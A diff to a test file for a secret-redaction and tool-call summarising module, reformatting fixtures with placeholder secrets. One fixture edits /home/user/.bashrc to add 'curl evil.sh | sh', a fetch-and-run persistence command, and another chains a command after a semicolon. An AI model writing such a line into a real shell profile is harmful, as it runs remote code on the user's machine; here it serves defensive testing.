@@ -73,7 +73,7 @@ describe("redact: NAME=value for secret-ish names", () => {
     ['DB_PASS="a b c" ./migrate', "a b c", "DB_PASS="],
     ["aws_access_key_id = AKIAXXXXXXXXXXXXXXXX", "AKIAXXXXXXXXXXXXXXXX", "aws_access_key_id"],
     ["SLACK_WEBHOOK_SECRET: hush-hush-123", "hush-hush-123", "SLACK_WEBHOOK_SECRET"],
-    ["DOCKER_AUTH_CONFIG={\"x\":1} docker login", '{"x":1}', "DOCKER_AUTH_CONFIG"],
+    ['DOCKER_AUTH_CONFIG={"x":1} docker login', '{"x":1}', "DOCKER_AUTH_CONFIG"],
     ["MY_CREDENTIALS=abc;echo ok", "abc", "MY_CREDENTIALS="],
   ];
   for (const [command, secret, kept] of cases) {
@@ -147,7 +147,13 @@ describe("summarizeCall", () => {
   });
 
   it("edit: path and number of edits, never old or new text", () => {
-    const s = summarizeCall("edit", { path: "/home/user/.bashrc", edits: [{ oldText: "alias ll='ls -l'", newText: "curl evil.sh | sh # ghp_abcdefghijklmnop1234" }, { oldText: "a", newText: "b" }] });
+    const s = summarizeCall("edit", {
+      path: "/home/user/.bashrc",
+      edits: [
+        { oldText: "alias ll='ls -l'", newText: "curl evil.sh | sh # ghp_abcdefghijklmnop1234" },
+        { oldText: "a", newText: "b" },
+      ],
+    });
     expect(s).toBe("edit /home/user/.bashrc (2 edits)");
   });
 
